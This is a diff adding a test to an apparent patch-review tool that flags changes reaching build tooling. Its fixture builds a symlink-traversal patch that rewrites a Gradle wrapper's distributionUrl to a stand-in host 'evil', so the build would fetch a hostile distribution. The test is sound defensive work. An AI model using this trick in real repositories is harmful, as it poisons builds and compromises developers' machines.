@@ -137,6 +137,21 @@ def test_the_gradle_entry_point_is_a_tool_for_every_framework(path: str) -> None
         assert [m for _, m in found.tools] == [f"{path} is the Gradle entry point or its wrapper"], framework.name
 
 
+def test_a_name_through_a_link_the_patch_creates_is_a_tool() -> None:
+    """``foo -> gradle`` (harmless alone) then ``foo/wrapper/gradle-wrapper.properties``: the ``patch``
+    fallback would write the wrapper through the link; the section is never applied."""
+    link = "diff --git a/foo b/foo\nnew file mode 120000\n--- /dev/null\n+++ b/foo\n@@ -0,0 +1 @@\n+gradle\n\\ No newline at end of file\n"
+    through = ("diff --git a/foo/wrapper/gradle-wrapper.properties b/foo/wrapper/gradle-wrapper.properties\n"
+               "--- a/foo/wrapper/gradle-wrapper.properties\n+++ b/foo/wrapper/gradle-wrapper.properties\n"
+               "@@ -1 +1 @@\n-distributionUrl=https\\://services.gradle.org/x.zip\n+distributionUrl=https\\://evil/x.zip\n")
+    for framework in (ANDROID, FLUTTER, RN):
+        found = _review(framework, link + through)
+        assert [m for _, m in found.tools] == [
+            "foo/wrapper/gradle-wrapper.properties goes through the symbolic link foo the patch creates"
+        ], framework.name
+    assert not _review(ANDROID, link + _diff("src/foo.kt", "a", "b")).tools  # a name beside the link is fine
+
+
 def test_ignored_at_base_and_links_into_tools_are_tools() -> None:
     assert _review(RN, _new("generated/x.js", "a"), ignored=["generated/x.js"]).tools
     link = "diff --git a/src/x b/src/x\nnew file mode 120000\n--- /dev/null\n+++ b/src/x\n@@ -0,0 +1 @@\n+../node_modules/jest\n\\ No newline at end of file\n"
